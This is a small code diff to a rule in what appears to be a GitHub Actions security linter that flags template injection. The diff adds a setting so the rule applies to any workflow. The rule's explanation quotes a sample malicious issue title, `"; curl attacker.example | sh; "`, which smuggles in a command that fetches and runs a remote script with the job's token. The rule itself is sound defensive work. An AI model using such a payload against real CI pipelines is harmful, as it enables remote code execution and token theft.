@@ -10,6 +10,7 @@ export default defineManifestRule({
   name: 'no-template-injection',
   severity: 'high',
   practice: 'image-security',
+  ofAnyWorkflow: true,
   title: 'Untrusted text becomes part of a script',
   why: 'GitHub puts the value into the script before the shell reads it. A title such as `"; curl attacker.example | sh; "` runs as a command with the token of the job.',
   remediation:
